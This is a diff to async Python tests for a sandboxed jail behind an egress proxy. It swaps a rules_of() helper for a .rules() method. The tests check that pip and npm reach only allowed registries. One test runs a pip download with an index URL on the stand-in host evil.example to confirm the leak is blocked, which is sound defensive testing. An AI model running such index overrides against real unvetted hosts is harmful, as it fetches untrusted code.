@@ -70,18 +70,12 @@ async def registries_of(tool: str) -> RegistryHosts:
     return found
 
 
-def rules_of(found: RegistryHosts) -> EgressRules:
-    return EgressRules(
-        registries=found.registries, private_hosts=found.private_hosts, credentials=found.credentials
-    )
-
-
 async def test_pip_downloads_a_package_from_a_jail_without_a_network(jails: Jails) -> None:
     found = await registries_of("python3")
     # The files' host is left out: the index itself has to name it.
     indexes = replace(found, registries=tuple(one for one in found.registries if one.kind == "pypi"))
     async with EgressProxy(jails.settings) as proxy:
-        jail = await jails.open(proxy, rules_of(indexes))
+        jail = await jails.open(proxy, indexes.rules())
         done = await jail.run("python3 -m pip download --no-deps --no-cache-dir -d got iniconfig && ls got")
         leaked = await jail.run(
             "python3 -m pip download --retries 1 -d got --index" + "-url https://evil.example/simple x"
@@ -96,7 +90,7 @@ async def test_pip_downloads_a_package_from_a_jail_without_a_network(jails: Jail
 async def test_npm_reads_a_package_from_a_jail_without_a_network(jails: Jails) -> None:
     found = await registries_of("npm")
     async with EgressProxy(jails.settings) as proxy:
-        jail = await jails.open(proxy, rules_of(found))
+        jail = await jails.open(proxy, found.rules())
         done = await jail.run("npm view isarray@2.0.5 name version --json")
         packed = await jail.run("npm pack isarray@2.0.5")
         token = f"//{found.registries[0].host}/:_authToken=x"
